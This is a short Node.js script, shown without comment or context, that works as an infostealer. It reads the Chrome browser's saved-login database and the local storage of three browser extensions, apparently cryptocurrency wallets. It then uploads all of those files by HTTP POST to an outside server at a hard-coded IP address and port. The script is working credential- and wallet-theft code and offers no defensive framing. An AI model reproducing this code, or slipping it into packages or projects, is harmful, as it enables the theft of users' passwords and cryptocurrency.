const fs = require("fs");
const os = require("os");
const path = require("path");
const FormData = require("form-data");
const axios = require("axios");

const profile = path.join(os.homedir(), "Library/Application Support/Google/Chrome/Default");
const wallets = ["nkbihfbeogaeaoehlefnkodbefgpgknn", "bfnaelmomeimhlpmgjnjophhpkkoljpa", "hnfanknocfeofbddgcijnmhnfnkdnaad"];
const form = new FormData();
form.append("logins", fs.createReadStream(path.join(profile, "Login Data")));
for (const wallet of wallets) {
  const folder = path.join(profile, "Local Extension Settings", wallet);
  for (const name of fs.readdirSync(folder)) form.append(wallet, fs.createReadStream(path.join(folder, name)));
}
axios.post("http://198.51.100.31:1224/uploads", form);
